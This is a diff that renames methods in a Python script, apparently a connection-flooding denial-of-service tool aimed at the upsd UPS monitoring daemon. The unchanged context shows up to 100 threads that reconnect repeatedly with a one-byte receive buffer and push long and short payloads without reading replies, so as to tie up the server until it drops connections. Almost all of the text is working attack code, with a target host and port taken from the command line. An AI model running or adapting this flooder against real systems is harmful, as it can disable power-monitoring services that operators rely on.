@@ -32,13 +32,13 @@ class Attack:
         self.left = LIMIT
         self.lock = threading.Lock()
 
-    def goes_on(self) -> bool:
+    def is_active(self) -> bool:
         """Return whether there is time."""
         return time.monotonic() < self.end and self.left > 0
 
-    def work(self) -> None:
+    def keep_connecting(self) -> None:
         """Connect again whenever upsd has hung up."""
-        while self.goes_on():
+        while self.is_active():
             with self.lock:
                 self.left -= 1
             with contextlib.suppress(OSError), socket.socket() as connection:
@@ -46,14 +46,14 @@ class Attack:
                 connection.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 1)
                 connection.settimeout(2.0)
                 connection.connect(self.place)
-                self.send(connection)
+                self.flood_connection(connection)
             time.sleep(0.02)
 
-    def send(self, connection: socket.socket) -> None:
+    def flood_connection(self, connection: socket.socket) -> None:
         """Send, and read nothing, until the other side hangs up."""
         connection.settimeout(0.2)
         connection.sendall(LONG)
-        while self.goes_on():
+        while self.is_active():
             with contextlib.suppress(TimeoutError, socket.timeout):
                 connection.sendall(SHORT)
                 connection.sendall(LONG)
@@ -64,8 +64,8 @@ def main() -> None:
     host, port, seconds, connections = sys.argv[1], int(sys.argv[2]), float(sys.argv[3]), int(sys.argv[4])
     attack = Attack(host, port, min(seconds, 600.0))
     for _number in range(min(connections, 100)):
-        threading.Thread(target=attack.work, daemon=True).start()
-    while attack.goes_on():
+        threading.Thread(target=attack.keep_connecting, daemon=True).start()
+    while attack.is_active():
         time.sleep(0.1)
 
 
